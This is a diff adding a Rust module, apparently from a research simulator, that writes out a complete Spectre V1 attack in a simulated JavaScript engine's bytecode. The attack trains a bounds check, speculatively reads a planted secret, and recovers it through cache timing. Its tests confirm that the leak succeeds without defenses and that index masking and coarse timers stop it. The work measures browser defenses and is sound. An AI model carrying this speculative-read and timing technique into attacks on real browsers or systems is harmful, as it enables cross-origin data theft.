@@ -1,0 +1,171 @@
+//! A complete in-sandbox browser attack: Spectre V1 written in the
+//! engine's own bytecode, with the cache readout *also inside the
+//! sandbox* via the coarse-able timer.
+//!
+//! This is the attack that motivates every JS-level mitigation the paper
+//! measures (§2, §4.3): untrusted script speculatively reads past an
+//! array, encodes the byte into a probe array's cache state, and recovers
+//! it with `performance.now()` timing. Three defenses are exercised:
+//!
+//! * **index masking** stops the speculative out-of-bounds read;
+//! * **timer-precision reduction** (part of "other JS") leaves the leak
+//!   in the cache but makes the in-sandbox readout blind;
+//! * running the engine under the kernel's default policy also gives the
+//!   process SSBD via seccomp — irrelevant to this V1 variant but part
+//!   of the same defense-in-depth story.
+
+use js_engine::{Engine, FunctionBuilder, JsMitigations, Op};
+use sim_kernel::BootParams;
+use uarch::model::CpuModel;
+
+/// The secret byte planted past the victim array (kept < 16 so the
+/// in-sandbox probe loop stays small).
+pub const SECRET: i64 = 13;
+
+/// Builds the attack program.
+///
+/// Heap layout after the two allocations: `A = [len=8, e0..e7]` directly
+/// followed by `B = [len=4, b0..]`, so `A[9]` aliases `B[0]` — the
+/// "secret" another part of the page holds.
+fn build_attack() -> Engine {
+    let mut e = Engine::new();
+    // Locals: 0=A, 1=B(probe target holder), 2=C(probe), 3=i, 4=t0,
+    // 5=best_i, 6=best_t, 7=tmp.
+    let mut f = FunctionBuilder::new("main", 0, 8);
+
+    // A = new Array(8); B = new Array(4); B[0] = SECRET.
+    f.op(Op::NewArray(8));
+    f.op(Op::SetLocal(0));
+    f.op(Op::NewArray(4));
+    f.op(Op::SetLocal(1));
+    f.op(Op::GetLocal(1));
+    f.op(Op::Const(0));
+    f.op(Op::Const(SECRET));
+    f.op(Op::ArraySet);
+    // C = new Array(16 * 64) — 16 probe slots, 64 elements (512 B) apart.
+    f.op(Op::NewArray(16 * 64));
+    f.op(Op::SetLocal(2));
+
+    // Train the bounds check in-bounds: x = A[i & 7]; touch C[x * 64].
+    f.counted_loop(3, 16, |f| {
+        f.op(Op::GetLocal(2));
+        // A[i & 7] — in-bounds; A's elements are 0, so this touches slot 0.
+        f.op(Op::GetLocal(0));
+        f.op(Op::GetLocal(3));
+        f.op(Op::Const(7));
+        f.op(Op::And);
+        f.op(Op::ArrayGet);
+        f.op(Op::Shl(6)); // * 64 elements
+        f.op(Op::ArrayGet);
+        f.op(Op::Drop);
+    });
+
+    // The strike: A[9] is architecturally out of bounds (returns 0), but
+    // the trained bounds check lets the transient path read B[0] and
+    // touch C[SECRET * 64].
+    f.op(Op::GetLocal(2));
+    f.op(Op::GetLocal(0));
+    f.op(Op::Const(9));
+    f.op(Op::ArrayGet);
+    f.op(Op::Shl(6));
+    f.op(Op::ArrayGet);
+    f.op(Op::Drop);
+
+    // In-sandbox readout: time C[i * 64] for i in 1..16 (slot 0 is hot
+    // from training); the fastest slot is the recovered byte.
+    f.op(Op::Const(0));
+    f.op(Op::SetLocal(5)); // best_i = 0 (report 0 on failure)
+    f.op(Op::Const(1_000_000));
+    f.op(Op::SetLocal(6)); // best_t = huge
+    f.op(Op::Const(1));
+    f.op(Op::SetLocal(3));
+    {
+        let top = f.new_label();
+        let done = f.new_label();
+        let not_better = f.new_label();
+        f.bind(top);
+        f.op(Op::GetLocal(3));
+        f.op(Op::Const(16));
+        f.op(Op::Lt);
+        f.op(Op::JumpIfFalse(done));
+        // t0 = now(); x = C[i * 64]; dt = now() - t0.
+        f.op(Op::ReadTimer);
+        f.op(Op::SetLocal(4));
+        f.op(Op::GetLocal(2));
+        f.op(Op::GetLocal(3));
+        f.op(Op::Shl(6));
+        f.op(Op::ArrayGet);
+        f.op(Op::Drop);
+        f.op(Op::ReadTimer);
+        f.op(Op::GetLocal(4));
+        f.op(Op::Sub);
+        f.op(Op::SetLocal(7)); // dt
+        // if dt < best_t { best_t = dt; best_i = i }
+        f.op(Op::GetLocal(7));
+        f.op(Op::GetLocal(6));
+        f.op(Op::Lt);
+        f.op(Op::JumpIfFalse(not_better));
+        f.op(Op::GetLocal(7));
+        f.op(Op::SetLocal(6));
+        f.op(Op::GetLocal(3));
+        f.op(Op::SetLocal(5));
+        f.bind(not_better);
+        f.op(Op::GetLocal(3));
+        f.op(Op::Const(1));
+        f.op(Op::Add);
+        f.op(Op::SetLocal(3));
+        f.op(Op::Jump(top));
+        f.bind(done);
+    }
+    f.op(Op::GetLocal(5));
+    f.op(Op::Return);
+    let fid = e.add_function(f.build());
+    e.set_main(fid);
+    e
+}
+
+/// Runs the in-sandbox attack; returns the byte the sandboxed script
+/// recovered (0 when the readout found nothing distinctive).
+pub fn run(model: CpuModel, mits: JsMitigations) -> u64 {
+    let engine = build_attack();
+    let out = engine.run_jit(&model, &BootParams::default(), mits);
+    out.result
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cpu_models::CpuId;
+
+    #[test]
+    fn unmitigated_sandbox_leaks_from_inside() {
+        for id in [CpuId::SkylakeClient, CpuId::IceLakeServer, CpuId::Zen2] {
+            let got = run(id.model(), JsMitigations::none());
+            assert_eq!(got, SECRET as u64, "{id}");
+        }
+    }
+
+    #[test]
+    fn index_masking_blocks_the_in_sandbox_leak() {
+        for id in [CpuId::SkylakeClient, CpuId::Zen2] {
+            let got = run(
+                id.model(),
+                JsMitigations { index_masking: true, object_guards: false, other_js: false },
+            );
+            assert_ne!(got, SECRET as u64, "{id}");
+        }
+    }
+
+    #[test]
+    fn coarse_timer_blinds_the_readout() {
+        // The leak still lands in the cache (masking off), but the
+        // sandboxed script cannot time it any more.
+        for id in [CpuId::SkylakeClient, CpuId::Zen2] {
+            let got = run(
+                id.model(),
+                JsMitigations { index_masking: false, object_guards: false, other_js: true },
+            );
+            assert_ne!(got, SECRET as u64, "{id}");
+        }
+    }
+}
